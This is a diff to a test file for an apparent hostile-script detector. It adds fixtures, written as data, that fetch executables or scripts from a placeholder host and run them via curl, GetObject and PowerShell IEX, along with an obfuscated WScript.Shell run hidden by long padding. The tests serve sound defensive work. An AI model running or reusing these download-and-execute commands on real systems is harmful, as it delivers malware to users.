@@ -111,6 +111,17 @@ test.each<[id: string, name: string, content: string]>([
     'a.bat',
     '@echo off\r\nbitsadmin /transfer j http://a.invalid/a %TEMP%\\a.exe\r\n',
   ],
+  [
+    'scripts.furtive-install',
+    'a.bat',
+    '@echo off\r\ncurl -s http://a.invalid/a.exe -o %TEMP%\\a.exe\r\nstart "" %TEMP%\\a.exe\r\n',
+  ],
+  ['scripts.lolbin-script', 'a.js', 'GetObject("script:http://a.invalid/a.sct"); var x = 1;'],
+  [
+    'scripts.download-and-run',
+    'a.ps1',
+    '$r = [Net.WebRequest]::Create("http://a.invalid/").GetResponse(); IEX $r\n',
+  ],
   ['scripts.lolbin-decode', 'a.bat', '@echo off\r\ncertutil -decode a.txt a.exe\r\n'],
   ['scripts.lolbin-script', 'a.bat', '@echo off\r\nmshta http://a.invalid/a.hta\r\n'],
   [
@@ -209,6 +220,7 @@ test.each<[name: string, content: string]>([
     'a.bat',
     '@echo off\r\nreg add HKCU\\Software\\Example /v a /d 1 /f\r\nnet stop Spooler\r\ncopy a.txt b.txt\r\n',
   ],
+  ['a.bat', '@echo off\r\ncurl -L https://a.invalid/setup.exe -o setup.exe\r\nsetup.exe /S\r\n'],
   [
     'a.ps1',
     'param([string]$Path)\nGet-ChildItem $Path -Recurse | Where-Object { $_.Length -gt 1MB } | Sort-Object Length\n',
@@ -255,4 +267,11 @@ test('text that is made to be slow is read in time', async () => {
   ];
   for (const name of ['a.bat', 'a.js', 'a.html', 'a.svg', 'a.ps1', 'a.csv', 'a.vbs'])
     for (const content of hostile) await look(name, content);
+});
+
+test('a script that is padded is still read at both ends', async () => {
+  const padding = `// ${'x'.repeat(60)}\n`.repeat(50_000);
+  const hidden = 'new ActiveXObject("WScr"+"ipt.Sh"+"ell").Run(p);';
+  for (const content of [hidden + padding, padding + hidden])
+    expect((await look('a.js', content)).ids).toContain('scripts.shell-run');
 });
